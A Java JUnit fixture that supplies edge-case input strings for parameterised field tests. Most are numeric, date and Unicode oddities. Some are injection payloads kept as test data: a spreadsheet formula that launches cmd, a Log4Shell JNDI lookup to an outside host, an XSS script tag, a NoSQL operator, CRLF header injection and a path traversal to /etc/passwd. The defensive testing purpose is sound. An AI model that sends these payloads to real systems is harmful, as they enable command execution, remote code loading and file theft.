package io.leadline.shell;

import java.util.Collection;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

/** What nobody means, and every field, service and address is given all the same. */
public final class OddValues {

    /** As a client can send them: as the text of a field, a parameter or a cell. */
    public static final List<String> TEXTS = List.of(
            "1e400000000",
            "-1e400000000",
            "1e-400000000",
            "1e100000000",
            "1e308",
            "1e30",
            "NaN",
            "Infinity",
            "-Infinity",
            "-1",
            "9223372036854775808",
            "0.0001",
            "1,5",
            "١٢",
            "٠٫٥",
            "9".repeat(38),
            "0." + "0".repeat(60) + "1",
            "9".repeat(50_000),
            "9999-12-31",
            "+999999999-12-31",
            "-999999999-01-01",
            "0001-01-01",
            "2012-02-30",
            "2012-13-01",
            "a\u0000b",
            "\u0000",
            "a\r\nBcc: b@x.example",
            "a%0d%0aBcc:b@x.example",
            "=cmd|' /C calc'!A0",
            "＝1+1",
            "a\u2028b\u2029c",
            "fdp.\u202Eexe",
            "\u2066a\u2069",
            "\uD800",
            "a\uDC00b",
            "\uD83D\uDE9A\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "\uFFFE",
            "\u001B[31mred",
            "<script>alert(1)</script>",
            "${jndi:ldap://x.example/a}",
            "{\"$gt\":\"\"}",
            "../../etc/passwd",
            " ",
            "",
            "x".repeat(5_000),
            "\n".repeat(10_000),
            "x".repeat(200_000));

    private OddValues() {}

    /** Each of them for a field of each kind, by name. */
    static Stream<Arguments> into(Collection<String> kinds) {
        return kinds.stream().sorted().flatMap(kind -> TEXTS.stream().map(value -> Arguments.of(kind, value)));
    }
}
